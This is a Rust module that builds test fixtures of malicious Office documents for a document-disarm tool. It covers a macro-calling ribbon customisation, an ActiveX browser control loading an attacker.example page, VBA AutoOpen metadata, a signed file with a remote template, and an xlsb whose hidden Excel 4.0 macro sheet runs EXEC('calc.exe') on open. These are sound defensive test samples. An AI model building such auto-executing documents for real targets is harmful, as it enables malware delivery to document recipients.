//! Fixtures for OOXML active parts that the first office fixtures do not cover: a ribbon
//! customisation with callbacks (customUI), an ActiveX control, Word's `vbaData.xml` macro
//! metadata, a digital signature that disarm invalidates, and a binary workbook (xlsb) whose
//! Excel 4.0 macro sheet is started by an `Auto_Open` name.

use crate::fixture::Fixture;
use crate::office::{
    DOCM_CT, DOCX_CT, REL, W, content_types, para, rels, vba_project, word_doc, zip,
};

const PKG_REL: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const MS_REL: &str = "http://schemas.microsoft.com/office/2006/relationships";

/// Every fixture of this module.
pub fn fixtures() -> Vec<Fixture> {
    vec![
        Fixture::dangerous(
            "docx_custom_ui_onload_callback.docx",
            custom_ui(),
            &["ooxml.custom_ui"],
            "ribbon customisation (customUI14.xml) whose onLoad and button callbacks name macros",
        ),
        Fixture::dangerous(
            "docx_activex_web_browser.docx",
            activex(),
            &["ooxml.activex"],
            "ActiveX Shell.Explorer control in the body that loads a remote page when the document opens",
        ),
        Fixture::dangerous(
            "docm_vba_data_autoopen_keymap.docm",
            vba_data(),
            &["ooxml.vba_project"],
            "VBA project plus word/vbaData.xml binding AutoOpen to a key and registering it as a command",
        ),
        Fixture::dangerous(
            "docx_signed_remote_template.docx",
            signed(),
            &["ooxml.signature", "ooxml.attached_template"],
            "digitally signed document with a remote attachedTemplate: disarm changes it, so the signature must go",
        ),
        Fixture::dangerous(
            "xlsb_xlm_macro_sheet_auto_open.xlsb",
            xlsb(),
            &["ooxml.auto_open_name", "ooxml.xlm_macro_sheet"],
            "binary workbook (BIFF12) with a very hidden Excel 4.0 macro sheet started by an Auto_Open name",
        ),
    ]
}

fn custom_ui() -> Vec<u8> {
    let ui = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Ribbon_OnLoad"><ribbon><tabs><tab id="kiyomeTab" label="Invoice"><group id="g1" label="Tools"><button id="b1" label="Show invoice" size="large" onAction="RunPayload"/></group></tab></tabs></ribbon></customUI>"#;
    zip(
        &[
            (
                "[Content_Types].xml",
                content_types("word/document.xml", DOCX_CT, ""),
            ),
            (
                "_rels/.rels",
                rels(&[
                    ("rId1", "officeDocument", "word/document.xml", false),
                    (
                        "rId2",
                        "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                        "customUI/customUI14.xml",
                        false,
                    ),
                ]),
            ),
            ("word/document.xml", word_doc(&para("Use the Invoice tab."))),
            ("word/_rels/document.xml.rels", rels(&[])),
            ("customUI/customUI14.xml", ui.to_vec()),
        ],
        &[],
    )
}

fn activex() -> Vec<u8> {
    let body = format!(
        "{}<w:p><w:r><w:object><w:control r:id=\"rIdAx1\" w:name=\"WebBrowser1\" w:shapeid=\"_x0000_i1025\"/></w:object></w:r></w:p>",
        para("Loading the viewer…")
    );
    // Shell.Explorer.1 (the WebBrowser control) with its start page in a property bag.
    let ocx = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<ax:ocx ax:classid="{{EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B}}" ax:persistence="persistPropertyBag" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="{REL}"><ax:ocxPr ax:name="Location" ax:value="http://attacker.example/viewer.html"/></ax:ocx>"#
    );
    zip(
        &[
            (
                "[Content_Types].xml",
                content_types(
                    "word/document.xml",
                    DOCX_CT,
                    r#"<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>"#,
                ),
            ),
            ("_rels/.rels", crate::office::root_rels("word/document.xml")),
            ("word/document.xml", word_doc(&body)),
            (
                "word/_rels/document.xml.rels",
                rels(&[("rIdAx1", "control", "activeX/activeX1.xml", false)]),
            ),
            ("word/activeX/activeX1.xml", ocx.into_bytes()),
        ],
        &[],
    )
}

fn vba_data() -> Vec<u8> {
    let data = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="PROJECT.THISDOCUMENT.AUTOOPEN"/></wne:keymap></wne:keymaps><wne:mcds><wne:mcd wne:macroName="PROJECT.THISDOCUMENT.AUTOOPEN" wne:name="Project.ThisDocument.AutoOpen" wne:bEncrypt="00" wne:cmg="56"/></wne:mcds></wne:vbaSuppData>"#;
    crate::office::docx(
        DOCM_CT,
        &para("Press Ctrl+Shift+A to view."),
        &[(
            "rId1",
            &format!("{MS_REL}/vbaProject"),
            "vbaProject.bin",
            false,
        )],
        vec![
            ("word/vbaProject.bin", vba_project()),
            (
                "word/_rels/vbaProject.bin.rels",
                rels(&[(
                    "rId1",
                    &format!("{MS_REL}/wordVbaData"),
                    "vbaData.xml",
                    false,
                )]),
            ),
            ("word/vbaData.xml", data.to_vec()),
        ],
        r#"<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>"#,
    )
}

fn signed() -> Vec<u8> {
    // An XML-DSig signature over the main part (the digest is that of the original part; the
    // signature value is a placeholder: no verifier is expected to accept it, and disarm must
    // drop it whatever its validity).
    let sig = format!(
        r##"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Signature xmlns="http://www.w3.org/2000/09/xmldsig#" Id="idPackageSignature"><SignedInfo><CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/><SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><Reference Type="http://www.w3.org/2000/09/xmldsig#Object" URI="#idPackageObject"><DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><DigestValue>{}</DigestValue></Reference></SignedInfo><SignatureValue>a2l5b21lIGZpeHR1cmUgc2lnbmF0dXJl</SignatureValue><Object Id="idPackageObject"><Manifest><Reference URI="/word/document.xml?ContentType=application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"><DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><DigestValue>{}</DigestValue></Reference></Manifest></Object></Signature>"##,
        "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
        "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    );
    let settings = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="{W}" xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/></w:settings>"#
    );
    zip(
        &[
            (
                "[Content_Types].xml",
                content_types(
                    "word/document.xml",
                    DOCX_CT,
                    r#"<Default Extension="sigs" ContentType="application/vnd.openxmlformats-package.digital-signature-origin"/><Override PartName="/_xmlsignatures/sig1.xml" ContentType="application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml"/>"#,
                ),
            ),
            (
                "_rels/.rels",
                rels(&[
                    ("rId1", "officeDocument", "word/document.xml", false),
                    (
                        "rId2",
                        &format!("{PKG_REL}/digital-signature/origin"),
                        "_xmlsignatures/origin.sigs",
                        false,
                    ),
                ]),
            ),
            (
                "word/document.xml",
                word_doc(&para("Signed by the finance department.")),
            ),
            (
                "word/_rels/document.xml.rels",
                rels(&[("rId1", "settings", "settings.xml", false)]),
            ),
            ("word/settings.xml", settings.into_bytes()),
            (
                "word/_rels/settings.xml.rels",
                rels(&[(
                    "rId1",
                    "attachedTemplate",
                    "https://attacker.example/signed-template.dotm",
                    true,
                )]),
            ),
            ("_xmlsignatures/origin.sigs", Vec::new()),
            (
                "_xmlsignatures/_rels/origin.sigs.rels",
                rels(&[(
                    "rId1",
                    &format!("{PKG_REL}/digital-signature/signature"),
                    "sig1.xml",
                    false,
                )]),
            ),
            ("_xmlsignatures/sig1.xml", sig.into_bytes()),
        ],
        &[],
    )
}

/// One BIFF12 record (MS-XLSB §2.1.4): type and size as 7-bit varints, then the payload.
fn rec(out: &mut Vec<u8>, ty: u32, payload: &[u8]) {
    let mut varint = |mut v: u32, max: usize| {
        for _ in 0..max {
            let b = (v & 0x7F) as u8;
            v >>= 7;
            if v == 0 {
                out.push(b);
                return;
            }
            out.push(b | 0x80);
        }
    };
    varint(ty, 2);
    varint(payload.len() as u32, 4);
    out.extend_from_slice(payload);
}

/// XLWideString: a 32-bit character count and UTF-16LE characters.
fn wide(s: &str) -> Vec<u8> {
    let units: Vec<u16> = s.encode_utf16().collect();
    let mut v = (units.len() as u32).to_le_bytes().to_vec();
    v.extend(units.iter().flat_map(|u| u.to_le_bytes()));
    v
}

const NULL_WIDE: [u8; 4] = [0xFF; 4];

/// `xl/workbook.bin`: two sheets (the second a very hidden macro sheet), an extern sheet
/// table for the 3-D reference, and the name `Auto_Open` (a command macro) pointing at the
/// macro sheet's A1.
fn xlsb_workbook() -> Vec<u8> {
    let mut w = Vec::new();
    rec(&mut w, 131, &[]); // BrtBeginBook
    rec(&mut w, 143, &[]); // BrtBeginBundleShs
    for (state, tab, rid, name) in [(0u32, 1u32, "rId1", "Sheet1"), (2, 2, "rId2", "Macro1")] {
        let mut p = state.to_le_bytes().to_vec();
        p.extend(tab.to_le_bytes());
        p.extend(wide(rid));
        p.extend(wide(name));
        rec(&mut w, 156, &p); // BrtBundleSh
    }
    rec(&mut w, 144, &[]); // BrtEndBundleShs
    rec(&mut w, 353, &[]); // BrtBeginExternals
    rec(&mut w, 357, &[]); // BrtSupSelf
    let mut xti = 1u32.to_le_bytes().to_vec(); // one XTI: this workbook, sheet 1 to 1
    xti.extend(0u32.to_le_bytes());
    xti.extend(1i32.to_le_bytes());
    xti.extend(1i32.to_le_bytes());
    rec(&mut w, 362, &xti); // BrtExternSheet
    rec(&mut w, 354, &[]); // BrtEndExternals
    // BrtName: fHidden | fFunc | fProc (a hidden command macro), workbook scope.
    let mut name = 0x0000_000Bu32.to_le_bytes().to_vec();
    name.push(0); // chKey
    name.extend(0xFFFF_FFFFu32.to_le_bytes()); // itab: workbook
    name.extend(wide("Auto_Open"));
    // PtgRef3d (0x3A): ixti 0, row 0, column 0 absolute → Macro1!$A$1.
    let rgce = [0x3A, 0, 0, 0, 0, 0, 0, 0, 0];
    name.extend((rgce.len() as u32).to_le_bytes());
    name.extend(rgce);
    name.extend(0u32.to_le_bytes()); // cb
    name.extend(NULL_WIDE); // comment
    for _ in 0..4 {
        name.extend(NULL_WIDE); // fProc strings: unused, description, help topic, unused
    }
    rec(&mut w, 39, &name);
    rec(&mut w, 132, &[]); // BrtEndBook
    w
}

/// A worksheet or macro sheet part with one row of formula cells (`cells`: the rgce bytes of
/// each formula, cached values empty strings).
fn xlsb_sheet(cells: &[Vec<u8>]) -> Vec<u8> {
    let mut s = Vec::new();
    rec(&mut s, 129, &[]); // BrtBeginSheet
    let mut dim = Vec::new();
    for v in [0u32, cells.len().saturating_sub(1) as u32, 0, 0] {
        dim.extend(v.to_le_bytes());
    }
    rec(&mut s, 148, &dim); // BrtWsDim
    rec(&mut s, 145, &[]); // BrtBeginSheetData
    for (row, rgce) in cells.iter().enumerate() {
        let mut hdr = (row as u32).to_le_bytes().to_vec();
        hdr.extend(0u32.to_le_bytes()); // ixfe
        hdr.extend(300u16.to_le_bytes()); // miyRw
        hdr.extend([0, 0, 0]);
        hdr.extend(1u32.to_le_bytes()); // one column span
        hdr.extend(0u32.to_le_bytes());
        hdr.extend(0u32.to_le_bytes());
        rec(&mut s, 0, &hdr); // BrtRowHdr
        let mut cell = 0u32.to_le_bytes().to_vec(); // column A
        cell.extend(0u32.to_le_bytes()); // style 0, no flags
        cell.extend(wide(""));
        cell.extend(0u16.to_le_bytes()); // grbitFlags
        cell.extend((rgce.len() as u32).to_le_bytes());
        cell.extend(rgce);
        cell.extend(0u32.to_le_bytes());
        rec(&mut s, 8, &cell); // BrtFmlaString
    }
    rec(&mut s, 146, &[]); // BrtEndSheetData
    rec(&mut s, 130, &[]); // BrtEndSheet
    s
}

fn xlsb() -> Vec<u8> {
    // EXEC("calc.exe"): PtgStr (0x17, 16-bit count, UTF-16) then PtgFuncVar (0x42) with one
    // argument and function 110 (EXEC); HALT(): PtgFunc (0x41) function 54.
    let mut exec = vec![0x17];
    let units: Vec<u16> = "calc.exe".encode_utf16().collect();
    exec.extend((units.len() as u16).to_le_bytes());
    exec.extend(units.iter().flat_map(|u| u.to_le_bytes()));
    exec.extend([0x42, 1, 110, 0]);
    let halt = vec![0x41, 54, 0];
    let ct = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/><Override PartName="/xl/worksheets/sheet1.bin" ContentType="application/vnd.ms-excel.worksheet"/><Override PartName="/xl/macrosheets/sheet1.bin" ContentType="application/vnd.ms-excel.macrosheet"/></Types>"#;
    zip(
        &[
            ("[Content_Types].xml", ct.as_bytes().to_vec()),
            ("_rels/.rels", crate::office::root_rels("xl/workbook.bin")),
            ("xl/workbook.bin", xlsb_workbook()),
            (
                "xl/_rels/workbook.bin.rels",
                rels(&[
                    ("rId1", "worksheet", "worksheets/sheet1.bin", false),
                    (
                        "rId2",
                        &format!("{MS_REL}/xlMacrosheet"),
                        "macrosheets/sheet1.bin",
                        false,
                    ),
                ]),
            ),
            ("xl/worksheets/sheet1.bin", xlsb_sheet(&[])),
            ("xl/macrosheets/sheet1.bin", xlsb_sheet(&[exec, halt])),
        ],
        &[],
    )
}
